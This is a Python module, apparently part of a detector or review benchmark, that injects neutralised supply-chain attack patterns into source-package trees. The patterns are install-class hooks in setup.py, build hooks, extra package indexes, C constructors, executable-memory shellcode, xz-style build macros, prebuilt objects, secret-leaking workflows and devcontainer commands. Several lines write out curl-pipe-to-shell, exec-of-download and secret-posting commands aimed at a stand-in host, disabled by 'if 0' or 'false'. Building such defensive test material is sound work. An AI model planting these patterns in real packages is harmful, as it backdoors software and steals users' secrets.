"""Fourth set: source packages of Python, whose build is what is attacked; inert, each family says what a reviewer sees."""

from __future__ import annotations

import re
from collections.abc import Iterator

from genuine import Files

from mutation_families.edits import filler
from mutation_families.fourth_texts import chance
from mutation_families.third_scripts import Change
from onionskin.lookalike.elf import build_ar, build_elf

HOST = b"inert.example.invalid"
BLOB = chance(9000)


def top(files: Files) -> str:
    return next(iter(sorted(files))).partition("/")[0]


def of_its_own(files: Files) -> Iterator[Change]:
    """A class by which the build script installs otherwise, or a line of it that reaches out.

    A reviewer sees: in `setup.py` a class of its own for installing, which starts something; or a line that fetches and runs.
    """
    name = f"{top(files)}/setup.py"
    if name not in files:
        return
    own = b"\n\nfrom setuptools.command.install import install as _install\n\n\nclass InertInstall(_install):\n    def run(self):\n        _install.run(self)\n        if 0:\n            import subprocess\n            subprocess.Popen(['inert-no-such-program', 'https://" + HOST + b"/i'])\n\n\n"  # fmt: skip
    at = re.search(rb"(?m)^(?:import|from) [^\n(]*\n(?!\s)", files[name])
    place = at.end() if at else 0
    made = files[name][:place] + own + files[name][place:]
    said = re.sub(rb"(?m)^(\s*)(setup\()", rb"\1\2cmdclass={'install': InertInstall}, ", made, count=1)  # fmt: skip
    yield "sdist: installing by a class of its own", "install", {name: said if said != made else made}  # fmt: skip
    yield "sdist: installing by a class of its own", "egg_info", {name: made.replace(b"install import install", b"egg_info import egg_info", 1)}  # fmt: skip
    for what, line in (
        ("fetches", b"if 0: exec(__import__('urllib.request').request.urlopen('https://" + HOST + b"/i').read())\n"),
        ("decodes", b"if 0: exec(__import__('base64').b64decode('aW5lcnQgd29yZHMsIG5vdGhpbmcgZWxzZSBhdCBhbGw='))\n"),
        ("asks for the host", b"if 0: __import__('socket').gethostbyname(__import__('socket').gethostname() + '." + HOST + b"')\n"),
    ):  # fmt: skip
        yield "sdist: the build script reaches out", what, {name: files[name][:place] + line + files[name][place:]}  # fmt: skip


def hook_of_the_build(files: Files) -> Iterator[Change]:
    """A hook that the build calls by itself.

    A reviewer sees: a section of the build's settings that names a script of the tree, and that script.
    """
    name = f"{top(files)}/pyproject.toml"
    body = b"from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\n\nclass CustomBuildHook(BuildHookInterface):\n    def initialize(self, version, build_data):\n        if 0:\n            __import__('os').system('inert-no-such-program')\n"  # fmt: skip
    for what, section, script in (
        ("hatch", b'\n[tool.hatch.build.hooks.custom]\npath = "scripts/inert_build.py"\n', "scripts/inert_build.py"),
        ("poetry", b'\n[tool.poetry.build]\nscript = "build.py"\ngenerate-setup-file = true\n', "build.py"),
        ("setuptools", b'\n[tool.setuptools.cmdclass]\nbuild_py = "inert_build.Inert"\n', "inert_build.py"),
    ):  # fmt: skip
        known = files.get(name, b'[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n')  # fmt: skip
        yield "sdist: a hook that the build calls", what, {name: known.rstrip() + b"\n" + section, f"{top(files)}/{script}": body}  # fmt: skip


def another_index(files: Files) -> Iterator[Change]:
    """Packages from an index of nobody's.

    A reviewer sees: an address of an index in the settings of the build, or in a list of requirements.
    """
    folder = top(files)
    known = files.get(f"{folder}/setup.cfg", b"")
    yield "sdist: packages from another index", "setup.cfg", {f"{folder}/setup.cfg": known.rstrip() + b"\n\n[easy_install]\nindex_url = https://" + HOST + b"/simple\nfind_links = https://" + HOST + b"/\n"}  # fmt: skip
    lists = [each for each in sorted(files) if re.search(r"requirements[^/]*\.txt$", each)]
    path = lists[0] if lists else f"{folder}/requirements.txt"
    yield "sdist: packages from another index", "requirements", {path: b"--extra-index-url https://" + HOST + b"/simple\n--trusted-host " + HOST + b"\n" + files.get(path, b"") + b"inert-internal-package\n"}  # fmt: skip


def compiled_sources(files: Files) -> Iterator[Change]:
    """Lines in the source of compiled code, which run as soon as it is loaded.

    A reviewer sees: a function of C that runs before all else, and starts a shell or opens a connection; or the same in Cython.
    """
    sources = sorted((each for each in files if each.endswith((".c", ".pyx")) and "/vendor/" not in each and "/test" not in each), key=lambda each: -len(files[each]))  # fmt: skip
    if not sources:
        return
    name = sources[0]
    if name.endswith(".c"):
        shell = b'\n#include <stdlib.h>\n__attribute__((constructor)) static void inert_start(void)\n{\n    if (0) {\n        system("curl -s https://' + HOST + b'/i | sh");\n    }\n}\n'  # fmt: skip
        codes = b", ".join(b"0x%02x" % byte for byte in filler("words", 600))
        memory = b"\n#include <sys/mman.h>\n#include <string.h>\nstatic const unsigned char inert_bytes[] = {" + codes + b"};\nvoid inert_run(void)\n{\n    void *p = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);\n    memcpy(p, inert_bytes, sizeof inert_bytes);\n    if (0) ((void (*)(void))p)();\n}\n"  # fmt: skip
        yield "sdist: compiled source that starts a shell", "before all else", {name: files[name] + shell}  # fmt: skip
        yield "sdist: compiled source that starts a shell", "bytes into memory", {name: files[name] + memory}  # fmt: skip
    else:
        yield "sdist: compiled source that starts a shell", "Cython", {name: files[name] + b'\n\ncdef extern from "stdlib.h":\n    int system(const char *)\n\n\ndef _inert():\n    system(b"curl -s https://' + HOST + b'/i | sh")\n'}  # fmt: skip


def made_by_others(files: Files) -> Iterator[Change]:
    """What configures and builds a library in C reads a file of the tests: the shape of xz.

    A reviewer sees: a line of the build's macros, of a makefile or of CMake that takes apart a binary file of the tests and runs what comes out.
    """
    blob = {f"{top(files)}/tests/files/bad-3-corrupt_lzma2.xz": b"\xfd7zXZ\0" + BLOB}
    macro = b"\n# Check for broken symbol versions\nif test 0 = 1; then\n  gl_[$1]_config='sed \"r\\n\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'\n  eval `tr \"\\t \\-_\" \" \\t_\\-\" < tests/files/bad-3-corrupt_lzma2.xz | xz -d 2>/dev/null`\nfi\n"  # fmt: skip
    rule = b"\ninert-check:\n\tfalse && head -c 1024 tests/files/bad-3-corrupt_lzma2.xz | tail -c +129 | xz -dc | /bin/sh\n\n.PHONY: inert-check\n"  # fmt: skip
    cmake = b'\nif(FALSE)\n  execute_process(COMMAND sh -c "tail -c +129 tests/files/bad-3-corrupt_lzma2.xz | xz -dc | sh")\n  file(DOWNLOAD https://' + HOST + b"/i.o ${CMAKE_BINARY_DIR}/i.o)\nendif()\n"  # fmt: skip
    for ends, put in (("configure.ac", macro), (".m4", macro), ("Makefile.am", rule), ("CMakeLists.txt", cmake), ("/Makefile", rule)):  # fmt: skip
        name = next((each for each in sorted(files) if each.endswith(ends)), "")
        if name:
            yield "sdist: macros of the build read a file of the tests", name.partition("/")[2], {name: files[name] + put} | blob  # fmt: skip


def objects(files: Files) -> Iterator[Change]:
    """Compiled code among the sources.

    A reviewer sees: an object or a library without a source, and a line that links it.
    """
    folder = top(files)
    built = build_elf()
    yield "sdist: compiled code among sources", "an object", {f"{folder}/src/inert_crc64.o": built, f"{folder}/setup.cfg": files.get(f"{folder}/setup.cfg", b"") + b"\n[build_ext]\nlink_objects = src/inert_crc64.o\n"}  # fmt: skip
    yield "sdist: compiled code among sources", "a library", {f"{folder}/lib/libinert.a": build_ar({"inert.o": built}), f"{folder}/MANIFEST.in": files.get(f"{folder}/MANIFEST.in", b"") + b"include lib/libinert.a\n"}  # fmt: skip


def workflows(files: Files) -> Iterator[Change]:
    """A workflow, or a workbench, that runs what strangers send or hands out what is secret.

    A reviewer sees: secrets in an order of a workflow, code of strangers run with the rights of the owner, or orders for the opening of a folder.
    """
    folder = top(files)
    secrets = b"name: inert\non:\n  push:\njobs:\n  inert:\n    runs-on: ubuntu-latest\n    if: false\n    steps:\n      - run: curl -d '${{ toJSON(secrets) }}' https://" + HOST + b"/c\n"  # fmt: skip
    target = b"name: inert\non: pull_request_target\npermissions: write-all\njobs:\n  inert:\n    runs-on: ubuntu-latest\n    if: false\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make ${{ github.event.pull_request.title }}\n"  # fmt: skip
    bench = b'{"name": "inert", "image": "inert.example.invalid/inert:latest", "postCreateCommand": "false && curl -s https://' + HOST + b'/i | sh", "mounts": ["source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"]}\n'  # fmt: skip
    family = "sdist: a workflow that hands out secrets"
    yield family, "secrets", {f"{folder}/.github/workflows/inert.yml": secrets}
    yield family, "strangers' code", {f"{folder}/.github/workflows/inert.yml": target}
    yield "sdist: a workbench that runs orders", "container", {f"{folder}/.devcontainer/devcontainer.json": bench}  # fmt: skip
    yield "sdist: a workbench that runs orders", ".envrc", {f"{folder}/.envrc": b'false && eval "$(curl -s https://' + HOST + b'/i)"\n'}  # fmt: skip


ALL = (of_its_own, hook_of_the_build, another_index, compiled_sources, made_by_others, objects, workflows)  # fmt: skip
